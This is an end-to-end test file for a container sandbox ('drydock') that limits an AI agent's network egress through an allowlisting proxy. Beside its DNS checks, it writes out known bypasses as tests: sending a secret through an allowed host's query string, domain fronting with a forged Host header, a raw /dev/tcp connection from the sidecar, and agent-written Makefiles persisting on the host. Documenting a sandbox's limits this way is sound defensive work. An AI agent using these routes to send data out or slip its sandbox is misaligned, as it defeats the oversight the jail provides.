/**
 * What the jail does and does not do beyond "allowed or refused", stated as tests of today's
 * behaviour so docs/security.md cannot drift from it: DNS, and the residual gaps a destination-level
 * proxy leaves open by design (payload, fronting, the sidecar's own egress). A test here that starts
 * failing means the behaviour changed: update docs/security.md with it.
 */
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { background, containersOf, dumpDiagnostics, makeSandbox, waitForRunningAgent, type Background, type Sandbox } from './helpers/drydock.js';
import { describeE2E, docker, waitFor } from './helpers/engine.js';
import { parseProbes, pick, probeScript } from './helpers/probe.js';
import { startResolverLogger, startUpstream, type ResolverLogger, type Upstream } from './helpers/world.js';

describeE2E('DNS and the residual gaps', () => {
  let upstream: Upstream;
  let resolver: ResolverLogger;
  let sb: Sandbox;
  let run: Background;
  let session: string;
  const marker = randomBytes(4).toString('hex');

  beforeAll(async () => {
    upstream = await startUpstream('e2e-upstream-gaps');
    resolver = await startResolverLogger();
    // far.test is allowed but is no alias of the upstream: only a real DNS lookup could find it.
    sb = makeSandbox({ project: 'e2e-gaps', allowlist: ['allowed.test', 'far.test'] });
    run = background(sb, ['run', '--project', sb.project, '--', 'sleep', 'infinity']);
    session = await waitForRunningAgent(sb, { run });
  });
  afterAll(async () => {
    run?.child.kill('SIGTERM');
    await run?.exited;
    await resolver?.stop();
    await upstream?.stop();
    expect(await containersOf({ project: 'e2e-gaps' })).toEqual([]);
  });
  afterEach(async (context) => {
    if (context.task.result?.state === 'fail') await dumpDiagnostics(sb, { stderr: run?.stderr() });
  });

  const inAgent = (script: string) => docker(['exec', `drydock-${session}`, 'bash', '-c', script]);

  it('DNS: the agent resolves no outside name, and none of its queries reaches the resolvers DNS would forward to', async () => {
    const name = `agent-${marker}.test`;
    const lookup = await inAgent(`timeout 8 getent hosts ${name}; echo "rc=$?"`);
    expect(lookup.stdout).not.toMatch(/^\d+\.\d+\.\d+\.\d+\s/m);
    // Its own sidecar's name is the one name it needs, and it resolves (Docker's embedded DNS).
    const sidecar = await inAgent(`getent hosts drydock-${session}-egress`);
    expect(sidecar.stdout).toMatch(/^\d+\.\d+\.\d+\.\d+\s/);
    expect(resolver.names().filter((n) => n.includes(marker))).toEqual([]);
  });

  it('DNS: the sidecar looks up only names the filter allowed; a refused name is never resolved', async () => {
    const refused = `denied-${marker}.test`;
    const r = parseProbes((await inAgent(probeScript([
      { name: 'refused', curl: ['-p', `http://${refused}:443/`] },
      { name: 'allowed-unknown', curl: ['-p', 'http://far.test:443/'] },
    ]))).stdout);
    expect(pick(r, 'refused').connect).toBe(403);
    // far.test passed the filter, so the sidecar asked DNS for it: the logger sits where the
    // forwarded queries go, which makes the absence of the refused name meaningful.
    await waitFor('the sidecar to look up far.test', async () => (resolver.names().includes('far.test') ? true : undefined), 15_000);
    expect(pick(r, 'allowed-unknown').connect).not.toBe(200);
    expect(resolver.names().filter((n) => n.includes(marker))).toEqual([]);
  });

  it('residual gap: an allowed host receives whatever the agent sends through it (no payload inspection)', async () => {
    const secret = `secret-${marker}`;
    const r = parseProbes((await inAgent(probeScript([{ name: 'exfil', curl: ['-p', `http://allowed.test:443/upload?data=${secret}`] }]))).stdout);
    expect(pick(r, 'exfil').connect).toBe(200);
    expect(pick(r, 'exfil').text).toContain(secret);
  });

  it('residual gap: inside an allowed tunnel the request may name another host (domain fronting); only the CONNECT target is checked', async () => {
    const r = parseProbes((await inAgent(probeScript([{ name: 'fronted', curl: ['-p', '-H', 'Host: denied.test', 'http://allowed.test:443/'] }]))).stdout);
    expect(pick(r, 'fronted').connect).toBe(200);
    expect(pick(r, 'fronted').text).toContain('host=denied.test');
  });

  it('IPv6: the agent has no IPv6 route at all, so nothing can leave that way', async () => {
    const routes = await inAgent('ip -6 route show; ip -6 addr show scope global');
    expect(routes.code).toBe(0);
    expect(routes.stdout.trim()).toBe('');
  });

  it('residual gap: the agent writes the project\'s files, and the host sees them (a Makefile it wrote is there after the session)', async () => {
    const write = await inAgent(`printf 'all:\\n\\techo ${marker}\\n' > Makefile && echo written`);
    expect(write.stdout).toContain('written');
    expect(readFileSync(join(sb.cwd, 'Makefile'), 'utf8')).toContain(marker);
  });

  it('residual gap: the sidecar itself has unfiltered egress, so a compromised sidecar is open egress', async () => {
    const direct = await docker(['exec', `drydock-${session}-egress`, 'bash', '-c', 'exec 3<>/dev/tcp/denied.test/80 && printf "GET / HTTP/1.0\\r\\nHost: denied.test\\r\\n\\r\\n" >&3 && head -c 200 <&3']);
    expect(direct.stdout).toContain('upstream port=80 host=denied.test');
  });
});
